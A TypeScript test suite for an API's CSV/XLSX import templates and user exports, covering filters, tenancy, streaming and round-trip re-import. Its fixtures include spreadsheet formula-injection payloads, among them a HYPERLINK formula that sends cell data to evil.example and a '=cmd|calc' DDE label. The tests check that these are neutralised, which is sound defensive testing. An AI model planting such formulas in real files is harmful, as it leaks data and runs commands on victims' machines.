import { get, type IncomingMessage } from 'node:http';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type KyselyPlugin, sql, TableNode } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../server/app.ts';
import { readExportedCell } from '../server/modules/exports/cells.ts';
import { TEMPLATE_COLUMNS } from '../server/modules/imports/targets.ts';
import { type Auth, createTestApp, type TestApp } from './helpers/app.ts';
import { addApiKey, type SignedUpTeam, signUp } from './helpers/fixtures.ts';
import { commitAndWait, configureVia } from './helpers/imports.ts';
import { describeTenancy, lazyWorld } from './helpers/tenancy.ts';
import { createUserVia, definePropertyVia } from './helpers/users.ts';

// The import template and user exports, downloaded over a real port with no credentials (the
// signed link is the credential). Files are parsed back: CSV with csv-parse, XLSX with exceljs.

const TEMPLATE = `query($format: ImportFormat!) { importTemplate(format: $format) { url expiresAt } }`;
const EXPORT = `mutation($input: ExportUsersInput!) { exportUsers(input: $input) {
  __typename ... on DownloadPayload { url expiresAt } ... on Error { code message path }
  ... on ValidationError { issues { path code } } } }`;
const COLUMNS = `query { userExportColumns { name isDefault propertyKey } }`;

const STANDARD = TEMPLATE_COLUMNS.map((c) => c.header);
// Property columns follow in key order: last_login, nickname, plan, renewal, score, seats, vip.
const PROPERTY_HEADERS = ['Last Login', 'Nickname', 'Plan', 'Renewal', 'Score', 'Seats', 'VIP'];
const HEADER = [...STANDARD, ...PROPERTY_HEADERS];
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';

let t: TestApp;
let base: string;
let team: SignedUpTeam;
let reader: string; // users:read only
let other: SignedUpTeam;
const ids: Record<string, string> = {};

const gid = (type: string, id: string) => Buffer.from(`${type}:${id}`).toString('base64');
const rawId = (globalId: string) => Buffer.from(globalId, 'base64').toString('utf8').split(':')[1]!;

async function ok(query: string, variables: Record<string, unknown>, field: string, token = team.token) {
  const res = await t.gql(query, variables, { token });
  expect(res.errors, JSON.stringify(res)).toBeUndefined();
  const value = res.data[field];
  if (value && typeof value === 'object' && 'code' in value) throw new Error(JSON.stringify(value));
  return value;
}

async function exportUsers(input: Record<string, unknown>, auth: Auth = { token: reader }) {
  return t.gql(EXPORT, { input }, auth);
}

async function exportUrl(input: Record<string, unknown>, auth?: Auth): Promise<string> {
  const res = await exportUsers(input, auth);
  expect(res.data?.exportUsers.__typename, JSON.stringify(res)).toBe('DownloadPayload');
  return res.data.exportUsers.url;
}

async function templateUrl(format: 'CSV' | 'XLSX', token = team.token): Promise<string> {
  const res = await t.gql(TEMPLATE, { format }, { token });
  expect(res.data?.importTemplate?.url, JSON.stringify(res)).toBeTruthy();
  return res.data.importTemplate.url;
}

/** The handed-out URL names the public origin (http://pavior.test); fetch it from `origin`. */
function local(url: string, origin = base): string {
  expect(url.startsWith(`${t.config.publicUrl}/files/`)).toBe(true);
  return origin + url.slice(t.config.publicUrl.length);
}

async function fetchFile(url: string): Promise<Response> {
  const res = await fetch(local(url));
  expect(res.status, res.status === 200 ? '' : await res.clone().text()).toBe(200);
  return res;
}

/**
 * A downloaded file as rows of cell text, the header first. A CSV must start with the UTF-8 BOM
 * spreadsheets look for; every cell of an XLSX (its first sheet) must be a text cell.
 */
async function fileRows(format: 'CSV' | 'XLSX', bytes: Buffer): Promise<string[][]> {
  if (format === 'CSV') {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return parse(bytes, { bom: true }) as string[][];
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const width = sheet.getRow(1).cellCount;
  const rows: string[][] = [];
  const notText: string[] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const cells: string[] = [];
    for (let c = 1; c <= width; c++) {
      const value = row.getCell(c).value;
      if (value !== null && typeof value !== 'string') notText.push(`${row.number}:${c} is ${typeof value}`);
      cells.push((value as string | null) ?? '');
    }
    rows.push(cells);
  });
  expect(notText).toEqual([]);
  return rows;
}

async function downloadRows(format: 'CSV' | 'XLSX', url: string): Promise<{ res: Response; rows: string[][] }> {
  const res = await fetchFile(url);
  return { res, rows: await fileRows(format, Buffer.from(await res.arrayBuffer())) };
}
const csvRows = (url: string) => downloadRows('CSV', url);
const xlsxRows = (url: string) => downloadRows('XLSX', url);

const byExternalId = (rows: string[][]) => {
  const at = rows[0]!.indexOf('External ID');
  return Object.fromEntries(rows.slice(1).map((row) => [row[at], Object.fromEntries(rows[0]!.map((h, i) => [h, row[i]]))]));
};

beforeAll(async () => {
  t = await createTestApp();
  base = await t.listen();
  team = await signUp(t);
  reader = (await addApiKey(t, team, ['users:read'])).secret;
  const define = (key: string, label: string, type: string, extra: object = {}) => definePropertyVia(t, team.token, { key, label, type, ...extra });
  await define('plan', 'Plan', 'ENUM', { options: ['free', 'pro'] });
  await define('seats', 'Seats', 'INTEGER');
  await define('score', 'Score', 'NUMBER');
  await define('vip', 'VIP', 'BOOLEAN');
  await define('renewal', 'Renewal', 'DATE');
  await define('last_login', 'Last Login', 'DATETIME');
  await define('nickname', 'Nickname', 'STRING');

  const people: [string, Record<string, unknown>][] = [
    ['ada', { email: 'ada@example.com', displayName: 'Ada Lovelace', role: 'ADMIN', firstName: 'Ada', company: 'Engines',
      properties: { plan: 'pro', seats: 3, score: -2.5, vip: true, renewal: '2026-03-01', last_login: '2026-01-31T09:30:00+01:00', nickname: FORMULA } }],
    ['bob', { email: 'bob@example.com', displayName: '+1 caller', status: 'ARCHIVED', role: 'SUPERVISOR',
      properties: { plan: 'free', seats: 0, score: 0.1, vip: false, nickname: '-2' } }],
    ['cy', { displayName: 'Cy, "the quoted"\nsecond line', status: 'DISABLED', properties: { score: 1e21, nickname: "'=already quoted" } }],
    ['@dee', { email: 'dee@example.com', properties: { nickname: '@SUM(A1:A9)' } }],
    ['eve', { email: 'eve@example.com', displayName: 'Not exported' }],
  ];
  for (const [externalId, input] of people) ids[externalId] = await createUserVia(t, team.token, { externalId, ...input });

  const group = async (name: string) => (await ok(`mutation($input: CreateGroupInput!) { createGroup(input: $input) { ... on GroupPayload { group { id } } ... on Error { code } } }`, { input: { name } }, 'createGroup')).group.id;
  const join = (userIds: string[], groupIds: string[]) =>
    ok(`mutation($input: AddUsersToGroupsInput!) { addUsersToGroups(input: $input) { __typename ... on Error { code message } } }`,
      { input: { userIds, groupIds } }, 'addUsersToGroups');
  const beta = await group('Beta');
  await join([ids.ada!, ids.bob!], [beta]);
  await join([ids.ada!], [await group('Zeta')]);
  await join([ids['@dee']!], [await group('=Staff')]);
  for (const [user, source, username] of [['ada', 'slack', 'ada'], ['ada', 'github', 'ada-l'], ['cy', 'zendesk', '123']] as const) {
    await ok(`mutation($input: AddIdentityInput!) { addIdentity(input: $input) { __typename ... on Error { code message } } }`,
      { input: { userId: ids[user], source, username } }, 'addIdentity');
  }
  await ok(`mutation($input: TagUsersInput!) { tagUsers(input: $input) { __typename ... on Error { code message } } }`,
    { input: { userIds: [ids.ada, ids.bob, ids.cy, ids['@dee']], tagNames: ['export-me'], createMissingTags: true } }, 'tagUsers');

  other = await signUp(t);
  await createUserVia(t, other.token, { externalId: 'ada', email: 'ada@other.example', displayName: 'Other Ada' });
});

/** The default export of the four tagged users, as each row should read. */
const EXPECTED: Record<string, Record<string, string>> = {
  ada: {
    'Current Status': 'Active', 'Display Name': 'Ada Lovelace', 'Primary Email': 'ada@example.com', Role: 'Admin',
    Groups: 'Beta, Zeta', 'Source Username(s)': 'github:ada-l, slack:ada', 'External ID': 'ada',
    'Last Login': '2026-01-31T08:30:00.000Z', Nickname: `'${FORMULA}`, Plan: 'pro', Renewal: '2026-03-01', Score: '-2.5', Seats: '3', VIP: 'true',
  },
  bob: {
    'Current Status': 'Archived', 'Display Name': "'+1 caller", 'Primary Email': 'bob@example.com', Role: 'Supervisor',
    Groups: 'Beta', 'Source Username(s)': '', 'External ID': 'bob',
    'Last Login': '', Nickname: "'-2", Plan: 'free', Renewal: '', Score: '0.1', Seats: '0', VIP: 'false',
  },
  cy: {
    'Current Status': '', 'Display Name': 'Cy, "the quoted"\nsecond line', 'Primary Email': '', Role: 'User',
    Groups: '', 'Source Username(s)': 'zendesk:123', 'External ID': 'cy',
    'Last Login': '', Nickname: "''=already quoted", Plan: '', Renewal: '', Score: '1e+21', Seats: '', VIP: '',
  },
  "'@dee": {
    'Current Status': 'Active', 'Display Name': '', 'Primary Email': 'dee@example.com', Role: 'User',
    Groups: "'=Staff", 'Source Username(s)': '', 'External ID': "'@dee",
    'Last Login': '', Nickname: "'@SUM(A1:A9)", Plan: '', Renewal: '', Score: '', Seats: '', VIP: '',
  },
};

describe('importTemplate', () => {
  it('CSV: the standard columns in order, then one per custom property by label; no rows', async () => {
    const { res, rows } = await csvRows(await templateUrl('CSV'));
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="pavior-import-template.csv"');
    expect(STANDARD).toEqual(['Current Status', 'Display Name', 'Primary Email', 'Role', 'Groups', 'Source Username(s)', 'External ID']);
    expect(rows).toEqual([HEADER]);
  });

  it('XLSX: the same header row, and nothing else', async () => {
    const { res, rows } = await xlsxRows(await templateUrl('XLSX'));
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="pavior-import-template.xlsx"');
    expect(rows).toEqual([HEADER]);
  });

  it('is current when opened, neutralises formula-like labels and heads ambiguous labels by key', async () => {
    const fresh = await signUp(t);
    const url = await templateUrl('CSV', fresh.token);
    expect((await csvRows(url)).rows).toEqual([STANDARD]);
    await definePropertyVia(t, fresh.token, { key: 'formula', label: '=cmd|calc', type: 'STRING' });
    await definePropertyVia(t, fresh.token, { key: 'tier_a', label: 'Tier', type: 'STRING' });
    await definePropertyVia(t, fresh.token, { key: 'tier_b', label: 'tier', type: 'STRING' });
    await definePropertyVia(t, fresh.token, { key: 'role_note', label: 'Role', type: 'STRING' });
    await definePropertyVia(t, fresh.token, { key: 'rating', label: 'Rating', type: 'NUMBER' });
    // The same link, opened again, shows the properties defined since.
    const { rows } = await csvRows(url);
    expect(rows).toEqual([[...STANDARD, "'=cmd|calc", 'Rating', 'role_note', 'tier_a', 'tier_b']]);
    expect(rows[0]!.map(readExportedCell)).toContain('=cmd|calc');
  });

  it('needs imports:read', async () => {
    const writerOnly = (await addApiKey(t, team, ['users:read', 'imports:write'])).secret;
    const denied = await t.gql(TEMPLATE, { format: 'CSV' }, { token: writerOnly });
    expect(denied.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const importer = (await addApiKey(t, team, ['imports:read'])).secret;
    expect((await t.gql(TEMPLATE, { format: 'XLSX' }, { token: importer })).data?.importTemplate.url).toMatch(/\/files\/import-template\?/);
  });
});

describe('exportUsers', () => {
  it('CSV: every matching user with the template columns, formula-safe, as the import reads them', async () => {
    const url = await exportUrl({ filter: { tags: ['export-me'] } });
    expect(new URL(url).pathname).toBe('/files/users');
    const { res, rows } = await csvRows(url);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(rows[0]).toEqual(HEADER);
    // Oldest first: the order the users were created in.
    expect(rows.slice(1).map((r) => r[6])).toEqual(['ada', 'bob', 'cy', "'@dee"]);
    expect(byExternalId(rows)).toEqual(EXPECTED);
  });

  it('XLSX: the same cells, every one a text cell', async () => {
    const csv = (await csvRows(await exportUrl({ filter: { tags: ['export-me'] } }))).rows;
    const { res, rows } = await xlsxRows(await exportUrl({ filter: { tags: ['export-me'] }, format: 'XLSX' }));
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="users-[\d-]+\.xlsx"$/);
    expect(rows).toEqual(csv);
  });

  it('neutralised cells read back as the stored values', async () => {
    const { rows } = await csvRows(await exportUrl({ filter: { tags: ['export-me'] }, columns: ['External ID', 'Nickname', 'Display Name'] }));
    expect(rows.slice(1).map((r) => r.map(readExportedCell))).toEqual([
      ['ada', FORMULA, 'Ada Lovelace'],
      ['bob', '-2', '+1 caller'],
      ['cy', "'=already quoted", 'Cy, "the quoted"\nsecond line'],
      ['@dee', '@SUM(A1:A9)', ''],
    ]);
  });

  it('filters like users(filter:): by group, status and property; another team’s group matches nobody', async () => {
    const beta = (await t.gql(`query { groups(first: 10) { edges { node { id name } } } }`, {}, { token: team.token })).data.groups.edges.find(
      (e: any) => e.node.name === 'Beta',
    ).node.id;
    const names = async (filter: object, auth?: Auth) => (await csvRows(await exportUrl({ filter, columns: ['External ID'] }, auth))).rows.slice(1).map((r) => r[0]);
    expect(await names({ groups: [beta] })).toEqual(['ada', 'bob']);
    expect(await names({ status: ['ARCHIVED', 'DISABLED'] })).toEqual(['bob', 'cy']);
    expect(await names({ properties: [{ key: 'score', op: 'LT', value: 1 }] })).toEqual(['ada', 'bob']);
    expect(await names({ createdAt: { from: '2000-01-01T00:00:00Z' }, search: 'e' })).toEqual(['eve']);
    expect(await names({ groups: [beta] }, { token: other.token })).toEqual([]);
    expect(await names({}, { token: other.token })).toEqual(['ada']);
  });

  it('columns pick and order a subset, by header or property key, case-insensitively, plus extra attributes', async () => {
    const { rows } = await csvRows(
      await exportUrl({ filter: { tags: ['export-me'] }, columns: ['external id', 'PLAN', 'seats', 'Tags', 'First Name', 'Company', 'Created At'] }),
    );
    expect(rows[0]).toEqual(['External ID', 'Plan', 'Seats', 'Tags', 'First Name', 'Company', 'Created At']);
    expect(rows[1]!.slice(0, 6)).toEqual(['ada', 'pro', '3', 'export-me', 'Ada', 'Engines']);
    expect(new Date(rows[1]![6]!).getTime()).toBeGreaterThan(Date.now() - 600_000);
    expect(rows[2]!.slice(0, 6)).toEqual(['bob', 'free', '0', 'export-me', '', '']);
  });

  it('lists the columns it can write', async () => {
    const columns = await ok(COLUMNS, {}, 'userExportColumns', reader);
    expect(columns.filter((c: any) => c.isDefault).map((c: any) => c.name)).toEqual(HEADER);
    expect(columns.find((c: any) => c.name === 'Seats')).toEqual({ name: 'Seats', isDefault: true, propertyKey: 'seats' });
    expect(columns.filter((c: any) => !c.isDefault).map((c: any) => c.name)).toEqual([
      'First Name', 'Last Name', 'Job Title', 'Phone', 'Company', 'Tags', 'Signed Up At', 'Created At', 'Last Seen At',
    ]);
  });

  it('refuses unknown and repeated columns, at input.columns.N, and an empty list', async () => {
    const res = await exportUsers({ columns: ['External ID', 'Nope', 'external id', 'Plan', 'plan'] });
    expect(res.data.exportUsers).toMatchObject({ __typename: 'ValidationError', code: 'UNKNOWN_COLUMN', path: ['input', 'columns', '1'] });
    expect(res.data.exportUsers.issues).toEqual([
      { path: ['input', 'columns', '1'], code: 'UNKNOWN_COLUMN' },
      { path: ['input', 'columns', '2'], code: 'DUPLICATE_COLUMN' },
      { path: ['input', 'columns', '4'], code: 'DUPLICATE_COLUMN' },
    ]);
    const empty = await exportUsers({ columns: [] });
    expect(empty.data.exportUsers).toMatchObject({ __typename: 'ValidationError', code: 'REQUIRED', path: ['input', 'columns'] });
  });

  it('refuses an invalid filter at input.filter…, and one too large for a link', async () => {
    const unknown = await exportUsers({ filter: { properties: [{ key: 'nope', op: 'EQ', value: 1 }] } });
    expect(unknown.data.exportUsers).toMatchObject({ __typename: 'ValidationError', code: 'UNKNOWN_PROPERTY', path: ['input', 'filter', 'properties', '0', 'key'] });
    const wrongType = await exportUsers({ filter: { properties: [{ key: 'seats', op: 'GT', value: 'many' }] } });
    expect(wrongType.data.exportUsers).toMatchObject({ code: 'TYPE', path: ['input', 'filter', 'properties', '0', 'value'] });
    const huge = await exportUsers({ filter: { tags: Array.from({ length: 400 }, (_, i) => `a-rather-long-tag-name-${i}`) } });
    expect(huge.data.exportUsers).toMatchObject({ __typename: 'LimitError', code: 'LIMIT_EXCEEDED', path: ['input', 'filter'] });
  });

  it('a link whose property was deleted since answers 404; an altered one 403', async () => {
    const key = `temp_${Date.now()}`;
    const id = await definePropertyVia(t, team.token, { key, label: 'Temporary', type: 'STRING' });
    const url = await exportUrl({ columns: ['External ID', 'Temporary'] });
    const deleted = await t.gql(`mutation($input: DeletePropertyInput!) { deletePropertyDefinition(input: $input) { __typename } }`, { input: { id } }, { token: team.token });
    expect(deleted.data?.deletePropertyDefinition.__typename, JSON.stringify(deleted)).not.toMatch(/Error/);
    expect((await fetch(local(url))).status).toBe(404);
    const altered = new URL(await exportUrl({ filter: { tags: ['export-me'] } }));
    altered.searchParams.set('team', rawId(other.teamId));
    expect((await fetch(local(altered.toString()))).status).toBe(403);
  });
});

describe('tenancy', () => {
  const world = lazyWorld(() => t);
  const own = { admin: 'OK', member: 'OK', otherTeamAdmin: 'OK', keyWithScope: 'OK', keyWithoutScope: 'FORBIDDEN', otherTeamKey: 'OK', publicKey: 'FORBIDDEN', anonymous: 'UNAUTHENTICATED' } as const;
  describeTenancy('importTemplate', () => t, world, { scope: 'imports:read', field: 'importTemplate', operation: async () => ({ query: TEMPLATE, variables: { format: 'CSV' } }), expect: own });
  describeTenancy('userExportColumns', () => t, world, { scope: 'users:read', field: 'userExportColumns', operation: async () => ({ query: COLUMNS }), expect: own });
  describeTenancy('exportUsers (a home group in the filter)', () => t, world, {
    scope: 'users:read',
    field: 'exportUsers',
    operation: async (w) => {
      const res = await t.gql(`mutation { createGroup(input: {name: "g-${Math.random()}"}) { ... on GroupPayload { group { id } } } }`, {}, { token: w.home.token });
      return { query: EXPORT, variables: { input: { filter: { groups: [res.data.createGroup.group.id] } } } };
    },
    expect: own,
  });

  it('another team’s export never holds the home team’s users, whatever the filter', async () => {
    const w = await world();
    await createUserVia(t, w.home.token, { externalId: 'home-only', email: 'home-only@example.com' });
    for (const auth of [{ token: w.other.token }, { token: w.otherKey }]) {
      const { rows } = await csvRows(await exportUrl({ filter: { search: 'home' }, columns: ['External ID'] }, auth));
      expect(rows).toEqual([['External ID']]);
    }
    const { rows } = await csvRows(await exportUrl({ filter: { search: 'home' }, columns: ['External ID'] }, { token: w.home.token }));
    expect(rows).toEqual([['External ID'], ['home-only']]);
  });
});

describe('a large export', () => {
  const USERS = 5000;
  let big: SignedUpTeam;
  let bigKey: string;

  beforeAll(async () => {
    big = await signUp(t);
    bigKey = (await addApiKey(t, big, ['users:read'])).secret;
    await definePropertyVia(t, big.token, { key: 'bio', label: 'Bio', type: 'STRING' });
    const teamId = rawId(big.teamId);
    // Set-based seeding: one statement per table. 4,000 random hex characters of bio per user
    // make a 20 MB CSV and a ~10 MB XLSX (random text does not compress away), far more than
    // socket buffers hold, so a paused reader must hold the producer back.
    await sql`
      insert into users (team_id, external_id, email, display_name, properties, created_at)
      select ${teamId}, 'u' || lpad(n::text, 5, '0'), 'u' || n || '@big.example', 'User ' || n,
             jsonb_build_object('bio', (select string_agg(md5(random()::text || n || i), '') from generate_series(1, 125) as i)),
             date_trunc('milliseconds', now()) + n * interval '1 millisecond' -- stored to the ms, as the app does
        from generate_series(1, ${USERS}) as n`.execute(t.db);
    await sql`insert into groups (team_id, name) values (${teamId}, 'Everyone')`.execute(t.db);
    await sql`
      insert into user_groups (team_id, user_id, group_id)
      select ${teamId}, u.id, g.id from users u, groups g where u.team_id = ${teamId} and g.team_id = ${teamId}`.execute(t.db);
    await sql`
      insert into identities (team_id, user_id, source, username)
      select ${teamId}, id, 'slack', external_id from users where team_id = ${teamId}`.execute(t.db);
  });

  /** GETs `url` from `origin` with node:http (to pause and drop it at will); resolves on the response. */
  async function startDownload(url: string, origin: string) {
    const request = get(local(url, origin));
    const response = await new Promise<IncomingMessage>((resolve) => request.once('response', resolve));
    expect(response.statusCode).toBe(200);
    return { request, response };
  }

  /** An app on the same database whose SELECTs are counted by table, on its own port. */
  async function countingServer() {
    let tables: string[] = [];
    const counter: KyselyPlugin = {
      transformQuery: ({ node }) => {
        if (node.kind === 'SelectQueryNode') tables.push(...(node.from?.froms ?? []).flatMap((f) => (TableNode.is(f) ? [f.table.identifier.name] : [])));
        return node;
      },
      transformResult: async ({ result }) => result,
    };
    const app = createApp({ config: t.config, db: t.db.withPlugin(counter), pubsub: t.pubsub });
    const origin = await app.start(0, '127.0.0.1');
    return {
      origin,
      stop: () => app.stop(),
      reset: () => {
        tables = [];
      },
      selects: (...names: string[]) => tables.filter((n) => names.includes(n)).length,
    };
  }

  it.each(['CSV', 'XLSX'] as const)('%s: every row, one query per page for users, groups and identities each', async (format) => {
    const server = await countingServer();
    try {
      const url = await exportUrl({ format }, { token: bigKey });
      server.reset();
      const res = await fetch(local(url, server.origin));
      expect(res.status).toBe(200);
      const rows = await fileRows(format, Buffer.from(await res.arrayBuffer()));
      expect(rows).toHaveLength(USERS + 1);
      expect(rows[0]).toEqual([...STANDARD, 'Bio']);
      expect(rows[1]!.slice(0, 7)).toEqual(['Active', 'User 1', 'u1@big.example', 'User', 'Everyone', 'slack:u00001', 'u00001']);
      expect(rows[1]![7]).toMatch(/^[0-9a-f]{4000}$/);
      expect(rows.at(-1)![6]).toBe('u05000');
      expect(new Set(rows.slice(1).map((r) => r[6])).size).toBe(USERS);
      // 5 full pages and the empty one that ends the listing; relations once per page.
      expect(server.selects('users')).toBe(6);
      expect(server.selects('user_groups', 'userGroups')).toBe(5);
      expect(server.selects('identities')).toBe(5);
    } finally {
      await server.stop();
    }
  });

  it.each(['CSV', 'XLSX'] as const)('%s streams: the first bytes arrive while pages are still to be read, and a paused reader holds it back', async (format) => {
    const server = await countingServer();
    try {
      const url = await exportUrl({ format, columns: ['External ID', 'Bio'] }, { token: bigKey });
      server.reset();
      const { response } = await startDownload(url, server.origin);
      // Read the first chunk, then stop reading (pausing inside the listener loses nothing).
      const chunks: Buffer[] = [];
      await new Promise<void>((resolve) =>
        response.on('data', (chunk: Buffer) => {
          chunks.push(chunk);
          if (chunks.length === 1) {
            response.pause();
            resolve();
          }
        }),
      );
      // The buffers fill (socket, zip; compressing XLSX takes a second or so), then nothing moves
      // while nobody reads: wait until the page count has not changed for 1.5 s.
      let whilePaused = server.selects('users');
      for (let still = 0, waited = 0; still < 1500 && waited < 15_000; waited += 250) {
        await new Promise((r) => setTimeout(r, 250));
        const now = server.selects('users');
        still = now === whilePaused ? still + 250 : 0;
        whilePaused = now;
      }
      // 5 pages hold the 5,000 users (a 6th, empty, ends the listing): pages of ~4 MB were never
      // read while the client was not reading.
      expect(whilePaused).toBeLessThan(5);
      await new Promise((r) => setTimeout(r, 1000));
      expect(server.selects('users')).toBe(whilePaused);
      // Resumed, the rest arrives, complete.
      response.resume();
      await new Promise((resolve) => response.once('end', resolve));
      expect(await fileRows(format, Buffer.concat(chunks))).toHaveLength(USERS + 1);
      expect(server.selects('users')).toBe(6);
    } finally {
      await server.stop();
    }
  });

  it.each(['CSV', 'XLSX'] as const)('%s: stops reading users when the client goes away', async (format) => {
    const server = await countingServer();
    try {
      const url = await exportUrl({ format, columns: ['External ID', 'Bio'] }, { token: bigKey });
      server.reset();
      const { request, response } = await startDownload(url, server.origin);
      await new Promise((resolve) => response.once('data', resolve));
      response.pause();
      request.destroy();
      await new Promise((r) => setTimeout(r, 800));
      expect(server.selects('users')).toBeLessThan(4);
    } finally {
      await server.stop();
    }
  });
});

describe('round trip: an export re-imports with every row unchanged', () => {
  const CREATE_IMPORT = `mutation($input: CreateImportInput!) { createImport(input: $input) {
    __typename ... on Import { id rowCount idColumnCandidates suggestedMapping { column kind key } } ... on Error { code message path } } }`;
  const SNAPSHOT = `query($filter: UserFilter) { users(first: 100, filter: $filter) { edges { node {
    externalId email status role displayName updatedAt properties groups { name } identities { source username } } } } }`;

  beforeAll(async () => {
    // Users with every kind of value but nothing formula-like: groups, identities, every property
    // type, a DISABLED status, no email, quotes, commas and a line break.
    const people: [string, Record<string, unknown>][] = [
      ['pat', { email: 'pat@example.com', displayName: 'Pat Plain', role: 'ADMIN',
        properties: { plan: 'pro', seats: 7, score: 3.25, vip: true, renewal: '2027-02-28', last_login: '2026-05-01T12:00:00.123Z', nickname: 'P' } }],
      ['quinn', { status: 'DISABLED', role: 'SUPERVISOR', properties: { score: 1e21, vip: false, seats: 0 } }],
      ['rae', { email: 'rae@example.com', displayName: 'Rae "R", the second\nline', status: 'ARCHIVED', properties: { score: 0.1 } }],
    ];
    const created: Record<string, string> = {};
    for (const [externalId, input] of people) created[externalId] = await createUserVia(t, team.token, { externalId, ...input });
    await ok(`mutation($input: AddUsersToGroupsInput!) { addUsersToGroups(input: $input) { __typename ... on Error { code message } } }`,
      { input: { userIds: [created.pat, created.rae], groupNames: ['Beta', 'Zeta'] } }, 'addUsersToGroups');
    for (const [user, source, username] of [['pat', 'slack', 'pat'], ['rae', 'github', 'rae'], ['rae', 'zendesk', '42']] as const) {
      await ok(`mutation($input: AddIdentityInput!) { addIdentity(input: $input) { __typename ... on Error { code message } } }`,
        { input: { userId: created[user], source, username } }, 'addIdentity');
    }
    await ok(`mutation($input: TagUsersInput!) { tagUsers(input: $input) { __typename ... on Error { code message } } }`,
      { input: { userIds: Object.values(created), tagNames: ['plain'], createMissingTags: true } }, 'tagUsers');
  });

  /** Uploads `bytes` as createImport does (a GraphQL multipart request) and returns the ANALYZED import. */
  async function upload(name: string, bytes: Uint8Array) {
    const form = new FormData();
    form.append('operations', JSON.stringify({ query: CREATE_IMPORT, variables: { input: { file: null } } }));
    form.append('map', JSON.stringify({ 0: ['variables.input.file'] }));
    form.append('0', new Blob([Uint8Array.from(bytes)]), name);
    const res = await fetch(`${base}/graphql`, { method: 'POST', headers: { authorization: `Bearer ${team.token}` }, body: form });
    const body = (await res.json()) as { data?: { createImport: any }; errors?: unknown };
    expect(body.data?.createImport.__typename, JSON.stringify(body)).toBe('Import');
    return body.data!.createImport;
  }

  const snapshot = async (tag: string) =>
    (await t.gql(SNAPSHOT, { filter: { tags: [tag] } }, { token: team.token })).data.users.edges.map((e: any) => e.node);

  /** Exports the users tagged `tag`, imports the file back into the team, and checks nothing changed. */
  async function roundTrip(tag: string, format: 'CSV' | 'XLSX') {
    const before = await snapshot(tag);
    const file = Buffer.from(await (await fetchFile(await exportUrl({ filter: { tags: [tag] }, format }))).arrayBuffer());
    const analyzed = await upload(`users.${format.toLowerCase()}`, file);
    expect(analyzed.rowCount).toBe(before.length);
    expect(analyzed.idColumnCandidates).toContain('External ID');
    // Every column maps back by itself: the template's headers exactly, properties by label.
    expect(analyzed.suggestedMapping.map((m: any) => m.column)).toEqual(HEADER);
    expect(analyzed.suggestedMapping.filter((m: any) => m.kind === 'SKIP')).toEqual([]);
    expect(analyzed.suggestedMapping.filter((m: any) => m.kind === 'PROPERTY').map((m: any) => m.key)).toEqual(['last_login', 'nickname', 'plan', 'renewal', 'score', 'seats', 'vip']);

    const mapping = analyzed.suggestedMapping.map(({ column, kind, key }: any) => (key ? { column, kind, key } : { column, kind }));
    const configured = await configureVia(t, team.token, { id: analyzed.id, idColumn: 'External ID', mapping, conflictPolicy: 'OVERWRITE' });
    expect(configured.errors.edges.map((e: any) => e.node)).toEqual([]);
    expect(configured.preview).toEqual({ create: 0, update: 0, unchanged: before.length, invalid: 0 });
    const done = await commitAndWait(t, team.token, analyzed.id);
    expect(done.status).toBe('COMPLETED');
    expect(done.result).toEqual({ created: 0, updated: 0, unchanged: before.length, failed: 0 });
    expect(await snapshot(tag)).toEqual(before);
  }

  it.each(['CSV', 'XLSX'] as const)('%s: every row unchanged, in the preview and the result; the users untouched', (format) => roundTrip('plain', format));

  // Formula-like values ("=HYPERLINK…", "-2", "@dee", a group "=Staff", "'=already quoted") are
  // exported with a leading ' that staging takes off again (readExportedCell in stage.ts).
  it.each(['CSV', 'XLSX'] as const)('%s: formula-like values too', (format) =>
    roundTrip('export-me', format),
  );
});
